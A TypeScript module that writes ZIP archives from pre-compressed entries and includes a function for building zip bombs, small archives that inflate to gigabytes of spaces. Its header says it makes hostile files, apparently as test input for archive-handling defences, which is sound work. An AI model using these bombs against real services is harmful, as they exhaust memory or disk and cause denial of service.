/**
 * A minimal ZIP writer for hostile files: entries are given already compressed, so a zip bomb
 * (a few MB that inflate to GBs) can be built without ever holding the inflated bytes.
 */
import { constants, crc32, createDeflateRaw, deflateRawSync } from 'zlib';

export interface ZipEntry {
  name: string;
  /** Raw DEFLATE data (method 8). */
  compressed: Buffer;
  crc: number;
  size: number;
}

export function deflatedEntry(name: string, data: Buffer): ZipEntry {
  return { name, compressed: deflateRawSync(data), crc: crc32(data), size: data.length };
}

function localHeader(e: ZipEntry, name: Buffer): Buffer {
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(0x0800, 6); // UTF-8 names
  h.writeUInt16LE(8, 8);
  h.writeUInt32LE(e.crc >>> 0, 14);
  h.writeUInt32LE(e.compressed.length, 18);
  h.writeUInt32LE(e.size >>> 0, 22);
  h.writeUInt16LE(name.length, 26);
  return h;
}

function centralHeader(e: ZipEntry, name: Buffer, offset: number): Buffer {
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(20, 6);
  h.writeUInt16LE(0x0800, 8);
  h.writeUInt16LE(8, 10);
  h.writeUInt32LE(e.crc >>> 0, 16);
  h.writeUInt32LE(e.compressed.length, 20);
  h.writeUInt32LE(e.size >>> 0, 24);
  h.writeUInt16LE(name.length, 28);
  h.writeUInt32LE(offset, 42);
  return h;
}

export function writeZip(entries: readonly ZipEntry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.concat([localHeader(e, name), name, e.compressed]);
    central.push(centralHeader(e, name, offset), name);
    parts.push(local);
    offset += local.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, dir, end]);
}

/**
 * An entry whose data is `head` followed by `repeatMiB` MiB of spaces, compressed without ever
 * inflating it: once the compressor's window is all spaces, every further MiB (flushed on its
 * own) compresses to the same bytes, which are simply repeated.
 */
export async function bombEntry(name: string, head: string, repeatMiB: number): Promise<ZipEntry> {
  const MiB = Buffer.alloc(1024 * 1024, 0x20);
  const headBytes = Buffer.from(head, 'utf8');
  const chunks = await flushedChunks([headBytes, MiB, MiB, MiB, MiB]);
  const [block, again] = chunks.slice(3);
  if (!block.equals(again)) throw new Error('bombEntry: the compressor did not repeat itself');
  let crc = crc32(headBytes);
  for (let i = 0; i < repeatMiB; i++) crc = crc32(MiB, crc);
  const blocks = Array.from({ length: repeatMiB - 2 }, () => block);
  // 0x03 0x00: an empty final block (fixed Huffman, end-of-block code) closes the stream.
  const compressed = Buffer.concat([...chunks.slice(0, 3), ...blocks, Buffer.from([0x03, 0x00])]);
  return { name, compressed, crc, size: headBytes.length + repeatMiB * MiB.length };
}

/** Compresses each input on its own (a sync flush after each), returning each one's output. */
async function flushedChunks(inputs: Buffer[]): Promise<Buffer[]> {
  const stream = createDeflateRaw({ level: 9 });
  let pending: Buffer[] = [];
  stream.on('data', (d: Buffer) => pending.push(d));
  const out: Buffer[] = [];
  for (const input of inputs) {
    stream.write(input);
    await new Promise<void>((resolve) => stream.flush(constants.Z_SYNC_FLUSH, () => resolve()));
    out.push(Buffer.concat(pending));
    pending = [];
  }
  stream.destroy();
  return out;
}
